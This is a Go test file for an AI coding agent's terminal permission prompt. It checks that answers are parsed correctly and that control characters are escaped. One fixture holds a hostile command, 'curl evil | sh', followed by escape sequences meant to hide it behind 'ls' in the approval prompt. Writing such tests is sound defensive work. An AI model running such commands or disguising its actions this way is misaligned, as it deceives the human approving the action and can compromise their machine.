package main

import (
	"bytes"
	"context"
	"io"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/tandem-agent/tandem/internal/event"
	"github.com/tandem-agent/tandem/internal/permission"
)

// A command with escape sequences cannot rewrite the permission prompt to
// hide what it runs.
func TestTerminalAskerEscapesControlCharacters(t *testing.T) {
	q := permission.Question{ToolName: "Bash", Summary: "Run `curl evil | sh\r\x1b[2Kls`", Diff: "+ok\n+\x1b]0;title\x07"}
	var out bytes.Buffer
	ta := newTerminalAsker(strings.NewReader("n\n"), &out)
	if _, err := ta.Ask(context.Background(), q); err != nil {
		t.Fatal(err)
	}
	s := out.String()
	if strings.ContainsAny(s, "\x1b\r\x07") {
		t.Fatalf("raw control characters reached the terminal: %q", s)
	}
	if !strings.Contains(s, `curl evil | sh\r\x1b[2Kls`) || !strings.Contains(s, "+ok\n+") {
		t.Errorf("prompt: %q", s)
	}
}

func TestTerminalAsker(t *testing.T) {
	q := permission.Question{ToolName: "Bash", Summary: "Run `npm test`", Suggestion: "Bash(npm test:*)", Rules: []permission.Rule{{Permission: "Bash", Pattern: "npm test:*", Action: permission.ActionAllow}}}
	cases := []struct {
		input string
		want  permission.Answer
	}{
		{"y\n", permission.Answer{Decision: permission.AllowOnce, By: "terminal"}},
		{"what\nn stop that\n", permission.Answer{Decision: permission.DenyCall, Message: "stop that", By: "terminal"}},
		{"a\np\n", permission.Answer{Decision: permission.AllowAlways, Scope: permission.ScopeProject, By: "terminal"}},
		{"a\n\n", permission.Answer{Decision: permission.AllowAlways, Scope: permission.ScopeSession, By: "terminal"}},
	}
	for _, c := range cases {
		var out bytes.Buffer
		ta := newTerminalAsker(strings.NewReader(c.input), &out)
		got, err := ta.Ask(context.Background(), q)
		if err != nil || !reflect.DeepEqual(got, c.want) {
			t.Errorf("%q: %+v %v", c.input, got, err)
		}
		if !strings.Contains(out.String(), "Run `npm test`") || !strings.Contains(out.String(), "Bash(npm test:*)") {
			t.Errorf("prompt: %q", out.String())
		}
	}
	// Closed input: an error, which the engine turns into a deny.
	ta := newTerminalAsker(strings.NewReader(""), io.Discard)
	if _, err := ta.Ask(context.Background(), q); err == nil {
		t.Errorf("EOF must be an error")
	}
	// A terminal attached to a broker loses to a faster client without
	// hanging.
	pr, pw := io.Pipe()
	defer pw.Close()
	seen := make(chan event.Event, 100)
	b := permission.NewBroker(func(e event.Event) { seen <- e }, newTerminalAsker(pr, io.Discard))
	go func() {
		ev := <-seen
		b.Reply(ev.RequestID, permission.Answer{Decision: permission.DenyCall, By: "web"})
	}()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	ans, err := b.Ask(ctx, q)
	if err != nil || ans.By != "web" {
		t.Errorf("broker with terminal: %+v %v", ans, err)
	}
}
